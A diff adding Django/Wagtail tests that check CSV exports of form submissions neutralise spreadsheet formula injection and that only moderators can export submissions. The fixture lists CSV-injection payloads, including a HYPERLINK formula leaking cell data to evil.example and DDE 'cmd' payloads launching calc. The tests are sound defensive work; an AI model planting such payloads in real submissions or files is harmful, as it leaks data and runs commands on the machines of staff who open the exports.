@@ -7,7 +7,7 @@ from html import unescape
 
 import pytest
 from django.core import mail
-from django.test import RequestFactory
+from django.test import Client, RequestFactory
 from django.utils import translation
 from wagtail.contrib.forms.models import FormSubmission
 from wagtail.models import Page
@@ -254,6 +254,89 @@ def test_staff_export_the_submissions_as_csv_from_the_admin(client, admin_client
     assert [record[1] for record in records] == ["Jan Peeters", "Eva Janssens"]
     assert records[0][4] == "Graag, op zaterdag."
     assert records[1][2] == "eva@example.org"
+
+
+def csv_rows(response):
+    content = b"".join(response.streaming_content) if response.streaming else response.content
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+
+
+FORMULAS = {
+    "=": '=HYPERLINK("https://evil.example/?leak="&C2,"Click for details")',
+    "+": "+1+cmd|' /C calc'!A0",
+    "-": "-2+3+cmd|' /C calc'!A0",
+    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "carriage return": "\r=1+1",
+}
+
+
+@pytest.mark.parametrize("start", FORMULAS)
+def test_exported_cells_that_start_like_a_formula_are_text(admin_client, seeded_site, start):
+    """OWASP's CSV injection advice: a leading apostrophe makes the spreadsheet show the cell as text."""
+    page = take_action_page()
+    formula = FORMULAS[start]
+    FormSubmission.objects.create(
+        page=page, form_data={"name": formula, "email": "marie@example.org", "message": f"{formula} again"}
+    )
+    header, record = csv_rows(admin_client.get(f"/admin/forms/submissions/{page.pk}/?export=csv"))
+    assert record[header.index("Your name")] == "'" + formula
+    assert record[header.index("Your message")] == "'" + formula + " again"
+    assert record[header.index("Your e-mail address")] == "marie@example.org"  # other cells as they were
+
+
+def test_a_formula_sent_through_the_form_is_stored_as_sent_and_exported_as_text(
+    client, admin_client, seeded_site
+):
+    page = take_action_page()
+    formula = FORMULAS["="]
+    assert client.post(page.url, answers(name=formula)).status_code == 200
+    assert FormSubmission.objects.get(page=page).get_data()["name"] == formula
+    header, record = csv_rows(admin_client.get(f"/admin/forms/submissions/{page.pk}/?export=csv"))
+    assert record[header.index("Your name")] == "'" + formula
+
+
+def test_ordinary_answers_and_field_labels_export_unchanged_but_formula_labels_do_not(
+    client, admin_client, seeded_site
+):
+    page = take_action_page()
+    field = page.form_fields.get(clean_name="name")
+    field.label = "=Name"  # an editor's label that a spreadsheet would run
+    field.save()
+    client.post(page.url, answers(name="Anne-Marie O'Neil", message="Hello - see you on 3/4 = Saturday"))
+    header, record = csv_rows(admin_client.get(f"/admin/forms/submissions/{page.pk}/?export=csv"))
+    assert header[1] == "'=Name"
+    assert record[1] == "Anne-Marie O'Neil"
+    assert record[header.index("Your message")] == "Hello - see you on 3/4 = Saturday"
+
+
+def test_moderators_read_and_export_submissions_and_editors_and_translators_do_not(
+    client, seeded_site, django_user_model
+):
+    from django.contrib.auth.models import Group
+
+    english, french = take_action_page("en"), take_action_page("fr")
+    client.post(english.url, answers("en"))
+    client.post(french.url, answers("fr"))
+    staff = Client()
+    for number, (group, may) in enumerate(
+        [("Moderators", True), ("Editors", False), ("Translators (French)", False)]
+    ):
+        user = django_user_model.objects.create_user(f"member-{number}", "m@example.org", "x" * 12)
+        user.groups.add(Group.objects.get(name=group))
+        staff.force_login(user)
+        # The Forms menu, the list of forms, the submissions and their export: for those who may read them only.
+        assert ('"/admin/forms/"' in html(staff.get("/admin/"))) is may, group
+        listing = staff.get("/admin/forms/")
+        assert (listing.status_code == 200 and french.title in html(listing)) is may, group
+        assert (staff.get(f"/admin/forms/submissions/{french.pk}/?export=csv").status_code == 200) is may, (
+            group
+        )
+        if group != "Translators (French)":
+            # The English form page's editor shows the count of submissions and links to them, to readers only.
+            editor = staff.get(f"/admin/pages/{english.pk}/edit/")
+            assert editor.status_code == 200
+            assert (f"/admin/forms/submissions/{english.pk}/" in html(editor)) is may, group
 
 
 def test_visitors_cannot_see_the_submissions(client, seeded_site):
